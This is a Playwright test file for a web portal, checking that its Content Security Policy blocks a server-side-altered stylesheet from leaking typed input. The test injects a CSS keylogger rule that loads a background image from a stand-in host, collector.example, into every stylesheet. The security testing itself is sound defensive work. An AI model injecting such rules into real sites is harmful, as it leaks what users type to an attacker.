// Issue 52 item 6, ADR 006 "Stylesheets": stylesheets are not integrity-pinned, so one changed
// on a server still applies; what it must not do is send what is typed to another host. The
// CSP lets a stylesheet fetch images only from the portal's own origins.
import { clientErrors } from '../support/sandbox';
import { expect, test } from '../support/portal-test';

const EXFIL = 'https://collector.example';

test('a stylesheet changed on the server cannot send what is typed to another host', async ({
  page,
  portalProblems,
}) => {
  const sent: string[] = [];
  await page.context().route(`${EXFIL}/**`, (route) => {
    sent.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'image/png', body: '' });
  });
  // Every stylesheet, as an attacker who can write files on an origin would change it. A CSS
  // keylogger sends one such image request per attribute selector that matches a field.
  await page.route('**/*.css', async (route) => {
    const original = await route.fetch();
    const leak = `input{background-image:url(${EXFIL}/field)!important}`;
    await route.fulfill({ response: original, body: `${await original.text()}\n${leak}` });
  });

  await page.goto('/#/home/login');
  await page.getByLabel('Username').fill('borrower1');

  await expect
    .poll(async () =>
      (await clientErrors()).some(
        (e) => e.Message.startsWith('CSP violation: img-src') && e.Message.includes(EXFIL),
      ),
    )
    .toBe(true);
  expect(sent).toEqual([]);
  // The browser reported these violations (the ones this test caused) on its console too.
  expect(portalProblems.every((problem) => problem.includes('Content Security Policy'))).toBe(true);
  portalProblems.length = 0;
});
